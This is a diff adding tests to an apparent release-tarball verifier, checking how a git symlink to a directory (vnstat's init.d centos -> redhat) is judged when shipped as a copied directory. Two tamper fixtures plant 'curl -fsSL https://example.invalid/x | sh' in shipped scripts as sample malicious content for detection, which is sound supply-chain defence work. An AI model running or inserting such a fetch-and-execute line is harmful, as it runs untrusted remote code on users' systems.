@@ -79,3 +79,59 @@ describe('symlinks shipped as files', () => {
     expect(r.verdict).toBe('different');
   });
 });
+
+describe('a symlink to a tracked directory shipped as a copy of it (vnstat 2.13: examples/init.d/centos -> redhat)', () => {
+  const root = tempDir();
+  const INIT = '#!/bin/sh\n# vnstat init script\nexec /usr/sbin/vnstatd -d\n';
+  const CONF = '# shipped with the script\n';
+  const repo = makeRepo(join(root, 'repo'));
+  repo.commit({
+    'README': 'vnstat\n',
+    'examples/init.d/redhat/vnstat': { content: INIT, executable: true },
+    'examples/init.d/redhat/conf/vnstat.conf': CONF,
+    'examples/init.d/centos': { symlink: 'redhat' },
+  });
+  repo.tag('v1.0');
+  const cache = join(root, 'cache');
+  const verdictOf = async (tarball: string) => {
+    const r = await verify({ tarball, repo: repo.dir, cacheDir: cache });
+    return { r, dir: r.findings.find((f) => f.path === 'examples/init.d/centos')! };
+  };
+  function tarball(name: string, change: Parameters<typeof writeFiles>[1]): string {
+    const dir = join(root, name, 'proj-1.0');
+    writeFiles(dir, {
+      'README': 'vnstat\n',
+      'examples/init.d/redhat/vnstat': { content: INIT, executable: true },
+      'examples/init.d/redhat/conf/vnstat.conf': CONF,
+      'examples/init.d/centos/vnstat': { content: INIT, executable: true },
+      'examples/init.d/centos/conf/vnstat.conf': CONF,
+      ...change,
+    });
+    return makeTar(dir, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
+  }
+
+  it("GNU tar -h of a checkout (the link followed, its files stored as hard links to the target's): SYMLINK_AS_DIRECTORY, nothing high", async () => {
+    const co = join(root, 'checkout', 'proj-1.0');
+    execFileSync('git', ['clone', '-q', '--branch', 'v1.0', repo.dir, co], { stdio: 'ignore' });
+    rmSync(join(co, '.git'), { recursive: true, force: true });
+    const out = join(root, 'checkout', 'proj-1.0.tar.gz');
+    execFileSync('tar', ['-chzf', out, '--owner=0', '--group=0', '--mtime=2020-01-01 00:00Z', '-C', join(root, 'checkout'), 'proj-1.0']);
+    const { r, dir } = await verdictOf(out);
+    expect(dir).toMatchObject({ code: 'SYMLINK_AS_DIRECTORY', severity: 'info', evidence: { target: 'redhat', resolved: 'examples/init.d/redhat', files: 2 } });
+    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
+  });
+
+  it('tampered: an extra file, another content, a lost executable bit or a missing file in the shipped directory stays TYPE_CHANGED (high)', async () => {
+    const explained = await verdictOf(tarball('copy', {}));
+    expect(explained.dir).toMatchObject({ code: 'SYMLINK_AS_DIRECTORY', severity: 'info' });
+    for (const [name, change] of [
+      ['extra', { 'examples/init.d/centos/postinst': { content: '#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\n', executable: true } }],
+      ['content', { 'examples/init.d/centos/vnstat': { content: `${INIT}curl -fsSL https://example.invalid/x | sh\n`, executable: true } }],
+      ['mode', { 'examples/init.d/centos/vnstat': INIT }],
+      ['missing', { 'examples/init.d/centos/conf/vnstat.conf': null }],
+    ] as const) {
+      const { dir } = await verdictOf(tarball(name, change as Parameters<typeof writeFiles>[1]));
+      expect(dir, name).toMatchObject({ code: 'TYPE_CHANGED', severity: 'high', evidence: { git: 'symlink', tarball: 'directory' } });
+    }
+  });
+});
